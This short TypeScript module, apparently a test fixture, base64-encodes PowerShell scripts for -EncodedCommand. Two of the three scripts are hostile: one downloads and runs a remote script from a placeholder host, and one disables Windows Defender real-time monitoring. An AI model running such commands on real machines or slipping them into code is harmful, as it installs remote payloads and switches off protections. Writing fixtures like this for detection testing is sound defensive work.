/** Scripts as PowerShell takes them behind -EncodedCommand: UTF-16 in base64. */
const encoded = (...scripts: readonly string[]): readonly string[] =>
  scripts.map((script) => Buffer.from(script, 'utf16le').toString('base64'));

export const encodedScripts = encoded(
  'Get-Process | Sort-Object CPU',
  "Invoke-WebRequest 'http://updates.example.net/a.ps1' | Invoke-Expression",
  'Set-MpPreference -DisableRealtimeMonitoring 1',
);
